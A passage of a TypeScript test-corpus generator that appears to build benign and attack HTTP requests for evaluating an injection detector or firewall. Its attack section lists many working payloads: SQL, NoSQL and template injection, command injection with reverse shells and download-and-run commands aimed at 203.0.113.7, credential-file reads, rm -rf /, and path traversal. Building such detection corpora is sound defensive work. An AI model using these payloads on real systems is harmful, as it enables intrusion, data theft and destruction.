      email: nth(["d'angelo.m@example.it", 'zoe.nunez@example.es', 'k.obrien@example.ie'], i),
      note: nth(
        [
          'Please leave at the back door (gate code 4471#).',
          "It's a gift — no invoice in the box please!",
          'Livraison après 18 h svp',
          null,
        ],
        i,
      ),
      shipping_address: {
        name: nth(["Kieran O'Brien", 'Zoë Ñúñez-García', 'Nguyễn Thị Hạnh'], i),
        address1: nth(ADDRESSES, i)[0][0],
        city: nth(ADDRESSES, i)[1],
        zip: nth(ADDRESSES, i)[2],
      },
      line_items: [
        {
          title: 'Union Jack Cushion 45×45 cm',
          quantity: 2,
          price: '24.90',
          properties: [{ name: 'Gift wrap', value: 'yes – "Happy Birthday, Mum!"' }],
        },
      ],
      discount_codes: [{ code: 'DROP10', amount: '4.98', type: 'percentage' }],
    }),
    'hook',
    {
      'user-agent': 'Shopify-Captain-Hook',
      'x-shopify-topic': 'orders/create',
      'x-shopify-hmac-sha256': b64(hex(32)),
      'x-shopify-shop-domain': 'shopfront.myshopify.com',
    },
  );
}
// Encoded content: base64 data URIs, JSON in strings, percent-encoded URLs inside JSON (8)
for (let i = 0; i < 8; i++) {
  const r = i % 3;
  addClean(
    'encoded',
    'POST',
    r === 0 ? '/api/v3/me/avatar' : r === 1 ? '/api/pages/42/blocks' : '/api/v1/campaigns',
    J,
    r === 0
      ? json({
          image: `data:image/png;base64,${Buffer.from(`\x89PNG\r\n\x1a\n${hex(40)}`, 'latin1').toString('base64')}`,
          crop: { x: 0, y: 0, w: 256, h: 256 },
        })
      : r === 1
        ? json({
            type: 'faq',
            settings: json({ collapsed: true, items: [{ q: nth(PRODUCT_QUESTIONS, i), a: nth(COPY, i) }] }),
          })
        : json({
            name: nth(['Spring 2026 – Newsletter #3', 'Black Friday / Cyber Monday', 'Réouverture Lyon'], i),
            link: `https://www.inkwell.example.com/redirect?to=${enc(`https://www.shopfront.example.com/sale?utm_source=newsletter&utm_campaign=${enc('spring 2026')}&ref=${enc("O'Neill")}`)}`,
            tracking: enc(json({ campaign: 'spring', variant: 'B' })),
          }),
    'browser',
  );
}

// ---------------------------------------------------------------------------------------------------- attacks

const attacks: CorpusRequest[] = [];
function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
  extra: Record<string, string> = {},
): void {
  attacks.push({
    id: `y${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers: headers(ct, client, extra),
    body,
  });
}
/** The header an attacker of each family typically uses when the payload travels in a header. */
const HEADER_FOR: Readonly<Record<string, string>> = {
  sql: 'x-tenant-id',
  command: 'user-agent',
  'path-traversal': 'x-file-name',
  xss: 'referer',
  log4shell: 'user-agent',
  template: 'x-forwarded-host',
  ssrf: 'x-forwarded-host',
};

/** One payload through one of these APIs' usual placements (technique = placement). */
function place(family: string, technique: string, p: string): void {
  const A = (
    method: string,
    path: string,
    ct: string | null,
    body: string,
    client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
    extra: Record<string, string> = {},
  ): void => addAttack(family, technique, method, path, ct, body, client, extra);
  switch (technique) {
    case 'wp-html':
      A(
        'POST',
        '/wp-json/wp/v2/posts',
        J,
        json({
          title: nth(HEADLINES, attacks.length),
          status: 'draft',
          content: `<!-- wp:paragraph -->\n<p>${nth(COPY, attacks.length)}</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:html -->\n${p}\n<!-- /wp:html -->\n\n<!-- wp:paragraph -->\n<p>${nth(COPY, attacks.length + 1)}</p>\n<!-- /wp:paragraph -->`,
        }),
        'browser',
        { 'x-wp-nonce': hex(10) },
      );
      return;
    case 'wp-text':
      A(
        'POST',
        `/wp-json/wp/v2/posts/${int(100, 9000)}`,
        J,
        json({
          title: nth(HEADLINES, attacks.length),
          content: `<!-- wp:paragraph -->\n<p>${nth(COPY, attacks.length)} ${p}</p>\n<!-- /wp:paragraph -->`,
        }),
        'browser',
        { 'x-wp-nonce': hex(10) },
      );
      return;
    case 'richtext-json':
      A(
        'PUT',
        `/cms/v1/spaces/k8x2m9/environments/master/entries/${hex(22)}`,
        'application/vnd.contentful.management.v1+json',
        json({
          fields: {
            title: { 'en-US': nth(HEADLINES, attacks.length) },
            body: {
              'en-US': {
                nodeType: 'document',
                data: {},
                content: [
                  { nodeType: 'paragraph', data: {}, content: [tnode(nth(COPY, attacks.length))] },
                  { nodeType: 'paragraph', data: {}, content: [tnode(p)] },
                ],
              },
            },
          },
        }),
        'sdk',
        { 'x-contentful-version': String(int(1, 20)) },
      );
      return;
    case 'richtext-link':
      A(
        'PUT',
        `/cms/v1/spaces/k8x2m9/environments/master/entries/${hex(22)}`,
        'application/vnd.contentful.management.v1+json',
        json({
          fields: {
            body: {
              'en-US': {
                nodeType: 'document',
                data: {},
                content: [
                  {
                    nodeType: 'paragraph',
                    data: {},
                    content: [
                      tnode('Read the '),
                      { nodeType: 'hyperlink', data: { uri: p }, content: [tnode('full story')] },
                      tnode('.'),
                    ],
                  },
                ],
              },
            },
          },
        }),
        'sdk',
        { 'x-contentful-version': String(int(1, 20)) },
      );
      return;
    case 'seo-title':
      A(
        'PATCH',
        `/api/pages/${int(1, 400)}/seo`,
        J,
        json({
          metaTitle: p,
          metaDescription: nth(COPY, attacks.length).slice(0, 150),
          metaRobots: 'index, follow',
        }),
        'browser',
      );
      return;
    case 'slug':
      A(
        'PUT',
        `/wp-json/wp/v2/posts/${int(100, 9000)}`,
        J,
        json({ title: nth(HEADLINES, attacks.length), slug: p, status: 'publish' }),
        'browser',
        { 'x-wp-nonce': hex(10) },
      );
      return;
    case 'template':
      A(
        'POST',
        `/wp-json/wp/v2/pages/${int(10, 900)}`,
        J,
        json({ title: 'Landing page', template: p, status: 'draft' }),
        'browser',
        { 'x-wp-nonce': hex(10) },
      );
      return;
    case 'strapi-filter':
      A(
        'GET',
        `/api/articles?${qs([
          ['filters[slug][$eq]', p],
          ['populate', '*'],
        ])}`,
        null,
        '',
      );
      return;
    case 'locale':
      A(
        'GET',
        `/api/articles?${qs([
          ['locale', p],
          ['populate', 'seo'],
        ])}`,
        null,
        '',
      );
      return;
    case 'i18n':
      A(
        'PUT',
        `/api/articles/${int(1, 500)}?locale=fr`,
        JU,
        json({
          data: {
            title: nth(LOCALES, 1)[1],
            locale: 'fr',
            body: `<p>${nth(LOCALES, 1)[2]}</p>\n<p>${p}</p>`,
          },
        }),
        'browser',
      );
      return;
    case 'cms-media':
      A(
        'PUT',
        `/cms/v1/spaces/k8x2m9/environments/master/assets/${hex(22)}`,
        'application/vnd.contentful.management.v1+json',
        json({
          fields: {
            title: { 'en-US': 'hero' },
            file: {
              'en-US': {
                fileName: p,
                contentType: 'image/jpeg',
                upload: `https://upload.inkwell.example.com/spaces/k8x2m9/uploads/${hex(20)}`,
              },
            },
          },
        }),
        'sdk',
      );
      return;
    case 'media-url':
      A(
        'POST',
        '/cms/v1/spaces/k8x2m9/environments/master/assets',
        'application/vnd.contentful.management.v1+json',
        json({
          fields: {
            title: { 'en-US': 'Imported hero image' },
            file: { 'en-US': { fileName: 'hero.jpg', contentType: 'image/jpeg', upload: p } },
          },
        }),
        'sdk',
      );
      return;
    case 'oembed':
      A(
        'GET',
        `/wp-json/oembed/1.0/proxy?${qs([
          ['url', p],
          ['maxwidth', '640'],
        ])}`,
        null,
        '',
        'browser',
      );
      return;
    case 'link-preview':
      A('POST', '/api/2.3/link-preview', J, json({ url: p }), 'browser');
      return;
    case 'webhook-url':
      A(
        'POST',
        '/api/v1/webhooks',
        J,
        json({ url: p, events: ['invoice.paid', 'payment.failed'], secret: hex(24), active: true }),
        'sdk',
      );
      return;
    case 'avatar-url':
      A('PATCH', '/api/v3/me', MERGE, json({ displayName: 'Kasia 🌸', avatarUrl: p }), 'browser');
      return;
    case 'fhir-attachment-url':
      A(
        'POST',
        '/fhir/R4/DocumentReference',
        FHIR,
        json({
          resourceType: 'DocumentReference',
          status: 'current',
          subject: { reference: `Patient/${uuid()}` },
          content: [{ attachment: { contentType: 'application/pdf', url: p, title: 'Discharge summary' } }],
        }),
        'sdk',
        { accept: FHIR },
      );
      return;
    case 'search-query':
      A(
        'GET',
        `/api/v3/search?${qs([
          ['q', p],
          ['page', '1'],
        ])}`,
        null,
        '',
        'browser',
      );
      return;
    case 'filter-query':
      A(
        'GET',
        `/api/v3/products?${qs([
          ['q', 'shoes'],
          ['filter[brand][]', 'nike'],
          ['filter[brand][]', p],
          ['sort', '-rating'],
        ])}`,
        null,
        '',
        'browser',
      );
      return;
    case 'sort':
      A(
        'GET',
        `/api/v3/products?${qs([
          ['category', 'home/kitchen'],
          ['sort', p],
          ['page[size]', '24'],
        ])}`,
        null,
        '',
      );
      return;
    case 'qa-search':
      A(
        'GET',
        `/api/2.3/search/advanced?${qs([
          ['q', p],
          ['order', 'desc'],
          ['sort', 'relevance'],
          ['site', 'stackwise'],
        ])}`,
        null,
        '',
      );
      return;
    case 'fhir-search':
      A(
        'GET',
        `/fhir/R4/Patient?${qs([
          ['family', p],
          ['_count', '20'],
        ])}`,
        null,
        '',
        'sdk',
        { accept: FHIR },
      );
      return;
    case 'invoice-filter':
      A(
        'GET',
        `/api/v1/invoices?${qs([
          ['status', 'overdue'],
          ['customer', p],
          ['sort', '-dueDate'],
        ])}`,
        null,
        '',
        'sdk',
      );
      return;
    case 'download':
      A(
        'GET',
        `/api/v1/documents/download?${qs([
          ['file', p],
          ['disposition', 'attachment'],
        ])}`,
        null,
        '',
        'browser',
      );
      return;
    case 'query':
      A(
        'GET',
        `/api/v3/products?${qs([
          ['q', 'jacket'],
          ['lang', p],
        ])}`,
        null,
        '',
      );
      return;
    case 'url-path':
      A('GET', `/wp-content/uploads/2026/03/${p}`, null, '', 'curl');
      return;
    case 'review':
      A(
        'POST',
        `/api/v3/products/${int(100000, 999999)}/reviews`,
        J,
        json({
          rating: 5,
          title: 'Love it',
          body: `${nth(REVIEWS, attacks.length).slice(0, 80)} ${p}`,
          author: { displayName: 'mark_the_diy_guy' },
        }),
        'browser',
      );
      return;
    case 'review-title':
      A(
        'POST',
        `/api/v3/products/${int(100000, 999999)}/reviews`,
        J,
        json({ rating: 4, title: p, body: nth(REVIEWS, attacks.length), author: { displayName: 'Zoë N.' } }),
        'browser',
      );
      return;
    case 'question':
      A(
        'POST',
        '/api/2.3/questions/add',
        J,
        json({
          title: nth(Q_TITLES, attacks.length),
          body: `${nth(Q_PROSE, attacks.length)}\n\n${p}\n\nThanks in advance!`,
          tags: ['javascript', 'html'],
        }),
        'browser',
      );
      return;
    case 'answer':
      A(
        'POST',
        `/api/2.3/questions/${int(70000000, 79999999)}/answers/add`,
        J,
        json({ body: `${nth(A_PROSE, attacks.length)}\n\n${p}` }),
        'browser',
      );
      return;
    case 'comment':
      A(
        'POST',
        `/api/2.3/posts/${int(70000000, 79999999)}/comments/add`,
        FORM,
        form({ body: p, fkey: hex(32) }),
        'browser',
      );
      return;
    case 'latex':
      A(
        'POST',
        `/api/2.3/questions/${int(4000000, 4999999)}/answers/add`,
        J,
        json({ body: `${nth(MATH, attacks.length)}\n\nFull derivation: $${p}$` }),
        'browser',
      );
      return;
    case 'exercise-prompt':
      A(
        'PUT',
        `/api/v1/exercises/${int(100, 999)}`,
        J,
        json({
          title: 'Joins',
          prompt: `### Exercise 3.2\n${p}`,
          starterCode: '-- Tables: customers(id, name)\nSELECT ...',
          points: 5,
        }),
        'browser',
      );
      return;
    case 'clinical-note':
      A(
        'POST',
        '/api/v2/claims',
        J,
        json({
          patient: { name: "Kieran O'Brien", memberId: `MBR-${int(1000000, 9999999)}` },
          diagnoses: [{ sequence: 1, code: 'J18.9', system: 'ICD-10-CM' }],
          lines: [{ cpt: '99213', units: 1, charge: money() }],
          notes: `${nth(CLINICAL_NOTES, attacks.length).slice(0, 120)} ${p}`,
        }),
        'sdk',
      );
      return;
    case 'icd-code':
      A(
        'POST',
        '/api/v2/claims',
        J,
        json({
          patient: { name: 'Zoë Ñúñez-García', memberId: `MBR-${int(1000000, 9999999)}` },
          diagnoses: [
            { sequence: 1, code: 'E11.65', system: 'ICD-10-CM' },
            { sequence: 2, code: p, system: 'ICD-10-CM' },
          ],
          lines: [{ cpt: '99214', units: 1, charge: money() }],
        }),
        'sdk',
      );
      return;
    case 'patient-name':
      A(
        'POST',
        '/fhir/R4/Patient',
        FHIR,
        json({
          resourceType: 'Patient',
          name: [{ use: 'official', family: p, given: ['Kieran'] }],
          gender: 'male',
          birthDate: '1971-04-12',
        }),
        'sdk',
        { accept: FHIR },
      );
      return;
    case 'invoice-note':
      A(
        'POST',
        '/api/v1/invoices',
        J,
        json({
          number: `INV-2026-${int(1000, 9999)}`,
          customer: { name: "O'Neill & Sons Ltd.", vatId: 'IE6388047V' },
          currency: 'EUR',
          lines: [
            { description: 'Consulting — 12.5 h @ €140/h', quantity: 1, unitPrice: money(), taxRate: 23 },
          ],
          notes: p,
        }),
        'browser',
      );
      return;
    case 'remittance':
      A(
        'POST',
        '/api/v1/payments',
        J,
        json({
          amount: { value: money(), currency: 'EUR' },
          debtor: { name: 'Jürgen Müller-Lüdenscheidt', iban: 'DE89370400440532013000' },
          remittanceInformation: p,
          endToEndId: `E2E-${hex(12).toUpperCase()}`,
        }),
        'sdk',
        { 'idempotency-key': uuid() },
      );
      return;
    case 'iban':
      A(
        'POST',
        '/api/v1/payments',
        J,
        json({
          amount: { value: money(), currency: 'EUR' },
          debtor: { name: "Siobhán O'Sullivan", iban: p },
          remittanceInformation: nth(REMITTANCE, attacks.length),
        }),
        'sdk',
        { 'idempotency-key': uuid() },
      );
      return;
    case 'nested':
      A(
        'POST',
        '/api/v3/checkout',
        J,
        json({
          cart: hex(16),
          customer: {
            email: 'k.obrien@example.ie',
            shipping: {
              name: "Kieran O'Brien",
              address: {
                line1: "221 O'Connell St.",
                city: 'Dublin',
                meta: { deliveryNotes: { gateCode: p } },
              },
            },
          },
          payment: { method: 'card', token: `tok_${hex(24)}` },
        }),
        'browser',
      );
      return;
    case 'key':
      A(
        'POST',
        '/api/v3/products/search',
        J,
        json({ query: 'jacket', filters: { brand: ['nike'], [p]: '1' }, page: 1 }),
        'browser',
      );
      return;
    case 'array':
      A(
        'POST',
        '/wp-json/wp/v2/posts',
        J,
        json({
          title: nth(HEADLINES, attacks.length),
          content: `<p>${nth(COPY, attacks.length)}</p>`,
          tags_input: ['spring', 'fashion', p, 'sale'],
        }),
        'browser',
        { 'x-wp-nonce': hex(10) },
      );
      return;
    case 'unicode-escape':
      A(
        'POST',
        `/api/v3/products/${int(100000, 999999)}/reviews`,
        J,
        uescape({ rating: 5, title: 'Great', body: p }),
        'browser',
      );
      return;
    case 'json-in-string':
      A(
        'POST',
        '/api/pages/42/blocks',
        J,
        json({
          type: 'faq',
          settings: json({ collapsed: true, items: [{ q: 'Do you ship to Canada?', a: p }] }),
        }),
        'browser',
      );
      return;
    case 'base64':
      A(
        'POST',
        '/api/v3/products/search',
        J,
        json({ query: 'jacket', cursor: b64(p), first: 24 }),
        'browser',
      );
      return;
    case 'base64-attachment':
      A(
        'POST',
        '/fhir/R4/DocumentReference',
        FHIR,
        json({
          resourceType: 'DocumentReference',
          status: 'current',
          subject: { reference: `Patient/${uuid()}` },
          content: [
            {
              attachment: {
                contentType: 'text/html',
                title: 'referral-letter.html',
                data: b64(`<html><body><p>Dear colleague,</p>${p}</body></html>`),
              },
            },
          ],
        }),
        'sdk',
        { accept: FHIR },
      );
      return;
    case 'urlenc-in-json':
      A(
        'POST',
        '/api/v1/campaigns',
        J,
        json({
          name: 'Spring 2026 – Newsletter #4',
          link: `https://www.inkwell.example.com/redirect?to=${enc(p)}`,
          tracking: enc(p),
        }),
        'browser',
      );
      return;
    case 'graphql-variables':
      A(
        'POST',
        '/api/storefront/graphql',
        J,
        json({
          query: nth(SHOP_GQL, 0).q,
          variables: {
            query: p,
            first: 24,
            filters: [{ price: { min: 10, max: 200 } }],
            sortKey: 'RELEVANCE',
          },
        }),
        'browser',
      );
      return;
    case 'graphql-review':
      A(
        'POST',
        '/api/storefront/graphql',
        J,
        json({
          query: nth(SHOP_GQL, 1).q,
          variables: {
            input: {
              productId: `gid://shopfront/Product/${int(1000000, 9999999)}`,
              rating: 5,
              title: 'Nice',
              body: p,
            },
          },
        }),
        'browser',
      );
      return;
    case 'graphql-literal':
      A(
        'POST',
        '/api/storefront/graphql',
        J,
        json({ query: `{ search(query: ${JSON.stringify(p)}, first: 10) { totalCount } }` }),
        'browser',
      );
      return;
    case 'header':
      A('GET', '/api/v3/products?q=jacket', null, '', 'curl', { [HEADER_FOR[family] ?? 'x-request-id']: p });
      return;
    case 'cookie':
      A('GET', '/api/v3/cart', null, '', 'browser', { cookie: `sid=${hex(24)}; cart_id=${p}` });
      return;
    case 'form':
      A(
        'POST',
        '/forms/contact',
        FORM,
        form({ name: 'Jean-Luc Lefèvre', email: 'jl@lefevre.example.fr', message: p, consent: 'on' }),
        'browser',
      );
      return;
    case 'login-form':
      A(
        'POST',
        '/wp-login.php',
        FORM,
        form({
          log: p,
          pwd: 'password123',
          'wp-submit': 'Log In',
          redirect_to: '/wp-admin/',
          testcookie: '1',
        }),
        'browser',
      );
      return;
    case 'multipart-filename': {
      const [ct, body] = multipart([
        {
          name: 'file',
          filename: p,
          type: 'application/pdf',
          value: '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n',
        },
        { name: 'alternativeText', value: 'Invoice' },
      ]);
      A('POST', '/api/upload', ct, body, 'browser');
      return;
    }
    case 'multipart':
      {
        const [ct, body] = multipart([
          { name: 'file', filename: 'hero.jpg', type: 'image/jpeg', value: `\xff\xd8\xff\xe0${hex(20)}` },
          { name: 'alternativeText', value: p },
          { name: 'caption', value: 'Photo © 2026 Inkwell' },
        ]);
        A('POST', '/wp-json/wp/v2/media', ct, body, 'browser');
      }
      return;
    case 'ndjson': {
      const lines = [
        json({
          sku: `SKU-${int(10000, 99999)}`,
          title: 'Union Jack Cushion 45×45 cm',
          price: { amount: '24.90', currency: 'EUR' },
        }),
        json({
          sku: `SKU-${int(10000, 99999)}`,
          title: 'WD-40 Multi-Use 400 ml',
          price: { amount: '6.49', currency: 'EUR' },
        }),
        json({ sku: `SKU-${int(10000, 99999)}`, title: p, price: { amount: '9.99', currency: 'EUR' } }),
      ];
      A('POST', '/api/v3/catalog/import', NDJSON, `${lines.join('\n')}\n`, 'sdk');
      return;
    }
    case 'webhook':
      A(
        'POST',
        '/hooks/stripe',
        JU,
        json({
          id: `evt_${hex(24)}`,
          object: 'event',
          type: 'payment_intent.succeeded',
          data: {
            object: {
              id: `pi_${hex(24)}`,
              amount: 4990,
              currency: 'eur',
              description: p,
              metadata: { order_id: String(int(10000, 99999)) },
            },
          },
        }),
        'hook',
        {
          'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
          'stripe-signature': `t=${int(1730000000, 1765000000)},v1=${hex(64)}`,
        },
      );
      return;
    case 'merge-patch':
      A('PATCH', `/api/v2/patients/${uuid()}`, MERGE, json({ preferredName: p, phone: null }), 'sdk');
      return;
    case 'json-api':
      A(
        'PATCH',
        `/jsonapi/node/article/${uuid()}`,
        JSONAPI,
        json({
          data: {
            type: 'node--article',
            id: uuid(),
            attributes: { title: nth(HEADLINES, attacks.length), body: { value: p, format: 'full_html' } },
          },
        }),
        'sdk',
        { accept: JSONAPI },
      );
      return;
    case 'multipart-field': {
      const [ct, body] = multipart([
        {
          name: 'file',
          filename: 'statement.csv',
          type: 'text/csv',
          value: 'Buchungstag;Betrag\n28.11.2026;-1.234,56\n',
        },
        { name: 'account', value: p },
      ]);
      A('POST', '/api/v1/bank-feeds/upload', ct, body, 'browser');
      return;
    }
    default:
      throw new Error(`unknown technique ${technique}`);
  }
}

// SQL injection (32)
const SQLI: readonly (readonly [string, string])[] = [
  ["' OR '1'='1' -- ", 'search-query'],
  ["shoes' AND 4217=4217 AND 'Qxyz'='Qxyz", 'search-query'],
  ["1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", 'filter-query'],
  ["price,(CASE WHEN (SELECT SUBSTRING(version(),1,1))='8' THEN price ELSE name END)", 'sort'],
  ["spring-collection-2026' UNION SELECT user_login,user_pass FROM wp_users-- -", 'slug'],
  ["' UNION SELECT NULL,username,password,NULL FROM up_users--", 'strapi-filter'],
  ["O'Brien' OR 1=1--", 'fhir-search'],
  ["J18.9'; DROP TABLE claims;--", 'icd-code'],
  ["1;WAITFOR DELAY '0:0:5'--", 'json-api'],
  ["' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- ", 'review-title'],
  ["'||(SELECT pg_sleep(10))||'", 'invoice-note'],
  ["DE89370400440532013000' OR '1'='1", 'iban'],
  ["x' AND 1=CAST((SELECT string_agg(email||':'||password_hash,',') FROM patients) AS int)--", 'remittance'],
  ['-1 UNION ALL SELECT table_name,column_name,NULL FROM information_schema.columns--', 'graphql-variables'],
  ["admin'-- ", 'login-form'],
  ["1' ORDER BY 12-- -", 'key'],
  ["' OR 1=1 LIMIT 1 OFFSET 0 -- ", 'array'],
  [
    "' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -",
    'unicode-escape',
  ],
  ["') OR ('a'='a", 'json-in-string'],
  ["1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--", 'base64'],
  ["' OR 1=1--", 'urlenc-in-json'],
  ['1)) OR benchmark(10000000,MD5(1))#', 'ndjson'],
  ["'; EXEC xp_cmdshell('powershell -c iwr http://203.0.113.7/a.ps1|iex')--", 'clinical-note'],
  ["' AND 1=0 UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -", 'review'],
  ['" OR ""="', 'patient-name'],
  ["x' OR 1=1--", 'graphql-literal'],
  ["1' OR '1'='1", 'header'],
  ["1' AND SLEEP(5) AND '1'='1", 'cookie'],
  ["'; UPDATE users SET role='admin' WHERE email='attacker@evil.example'--", 'merge-patch'],
  ['1 UNION SELECT card_number,cvv,expiry FROM payment_methods--', 'multipart-field'],
  [
    "x' AND (SELECT 5723 FROM(SELECT COUNT(*),CONCAT(0x7178,(SELECT user()),0x7178,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- GxKs",
    'webhook',
  ],
  ["%' AND 8310=8310 AND '%'='", 'qa-search'],
  ["O'Neill'; SELECT pg_sleep(5)--", 'invoice-filter'],
];
for (const [p, t] of SQLI) place('sql', t, p);

// NoSQL operator injection (13)
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v1/auth/login',
  J,
  json({ email: 'admin@ledgerline.example', password: { $ne: null } }),
  'browser',
);
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v3/auth/login',
  J,
  json({ username: { $regex: '^adm' }, password: { $gt: '' } }),
  'browser',
);
addAttack(
  'nosql',
  'form',
  'POST',
  '/api/2.3/auth/login',
  FORM,
  'email%5B%24ne%5D=x&password%5B%24ne%5D=x',
  'browser',
);
addAttack(
  'nosql',
  'query',
  'GET',
  '/api/v3/orders?customer[$ne]=null&status[$in][]=paid&status[$in][]=shipped',
  null,
  '',
  'browser',
);
addAttack(
  'nosql',
  'where',
  'POST',
  '/api/v3/products/search',
  J,
  json({ query: 'jacket', filters: { $where: 'sleep(5000) || true' } }),
  'browser',
);
addAttack(
  'nosql',
  'nested',
  'POST',
  '/api/v1/invoices/search',
  J,
  json({
    filter: { $or: [{ status: 'paid' }, { $where: "this.owner != '' && this.password.match(/^a.*/)" }] },
    limit: 50,
  }),
  'sdk',
);
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v1/auth/reset-password',
  J,
  json({ token: { $exists: true }, password: 'N3wPassw0rd!' }),
  'browser',
);
addAttack(
  'nosql',
  'expr',
  'POST',
  '/api/v1/reports/aggregate',
  J,
  json({
    pipeline: [
      {
        $match: {
          $expr: { $function: { body: 'function(){ sleep(5000); return true; }', args: [], lang: 'js' } },
        },
      },
    ],
  }),
  'sdk',
);
addAttack(
  'nosql',
  'strapi-filter',
  'GET',
  `/api/users?${qs([
    ['filters[resetPasswordToken][$notNull]', 'true'],
    ['fields[0]', 'resetPasswordToken'],
  ])}`,
  null,
  '',
  'curl',
);
addAttack(
  'nosql',
  'strapi-filter',
  'GET',
  `/api/articles?${qs([
    ['filters[createdBy][password][$startsWith]', '$2a$10$a'],
    ['populate', 'createdBy'],
  ])}`,
  null,
  '',
  'curl',
);
addAttack(
  'nosql',
  'unicode-escape',
  'POST',
  '/api/v1/auth/login',
  J,
  '{"email":"admin@ledgerline.example","password":{"\\u0024ne":""}}',
  'browser',
);
addAttack(
  'nosql',
  'json-in-string',
  'POST',
  '/api/v3/products/search',
  J,
  json({ query: json({ brand: { $gt: '' }, price: { $lt: 0 } }), page: 1 }),
  'browser',
);
addAttack(
  'nosql',
  'graphql-variables',
  'POST',
  '/graphql',
  J,
  json({
    query: 'query Orders($where: JSON) { orders(where: $where) { id total customer { email } } }',
    variables: { where: { customerEmail: { $regex: '.*' }, total: { $gte: 0 } } },
  }),
  'browser',
);

// Template injection (16)
const SSTI: readonly (readonly [string, string])[] = [
  ['{{7*7}}', 'review-title'],
  [
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
    'seo-title',
  ],
  ["{{''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}", 'form'],
  ["{{config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read()}}", 'question'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ["${T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.7/x')}", 'invoice-note'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'richtext-json'],
  ['{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', 'wp-text'],
  [
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    'clinical-note',
  ],
  ['<%= `id` %>', 'review'],
  [
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    'graphql-review',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ["__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", 'query'],
  ["{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", 'base64'],
  [
    '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__[\'__import__\'](\'os\').popen("id").read()}}{% endif %}{% endfor %}',
    'json-in-string',
  ],
  ["{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", 'unicode-escape'],
  ['{php}echo `id`;{/php}', 'exercise-prompt'],
  ['@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))', 'answer'],
];
for (const [p, t] of SSTI) place('template', t, p);

// Command injection (19)
const CMDI: readonly (readonly [string, string])[] = [
  ['invoice.pdf; curl -s http://203.0.113.7/s.sh | sh', 'multipart-filename'],
  ['| nc 203.0.113.7 4444 -e /bin/sh', 'form'],
  ['$(curl -fsSL http://203.0.113.7/x | bash)', 'review'],
  ['`wget -qO- http://203.0.113.7/k|sh`', 'seo-title'],
  ['; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'clinical-note'],
  [
    '&& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
    'invoice-note',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
  ['1234;cat${IFS}/etc/shadow', 'nested'],
  ['x||ping -c 10 127.0.0.1||', 'search-query'],
  ["\n/bin/bash -c 'id > /tmp/pwned'", 'urlenc-in-json'],
  [
    ';python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")\'',
    'json-in-string',
  ],
  ['() { :; }; /bin/bash -c "curl http://203.0.113.7/sh | sh"', 'header'],
  ['image.jpg"|ls "-la', 'cms-media'],
  ['a;rm -rf / --no-preserve-root', 'array'],
  ['|/usr/bin/id', 'graphql-variables'],
  ['`id`', 'patient-name'],
  ['; curl http://203.0.113.7/$(whoami)', 'base64'],
  [
    "$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')",
    'unicode-escape',
  ],
  ['& type C:\\Windows\\win.ini &', 'ndjson'],
  [';id;', 'sort'],
];
for (const [p, t] of CMDI) place('command', t, p);

// Path traversal (16)
const LFI: readonly (readonly [string, string])[] = [
  ['../../../../etc/passwd', 'multipart-filename'],
  ['..%2f..%2f..%2f..%2fetc%2fpasswd', 'download'],
  ['....//....//....//etc/passwd', 'template'],
  ['..\\..\\..\\windows\\win.ini', 'download'],
  ['/var/www/html/../../../../etc/shadow', 'nested'],
  ['%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'download'],
  ['../../../../../proc/self/environ', 'locale'],
  ['..%c0%af..%c0%af..%c0%afetc/passwd', 'url-path'],
  ['../../../../etc/passwd%00.png', 'cms-media'],
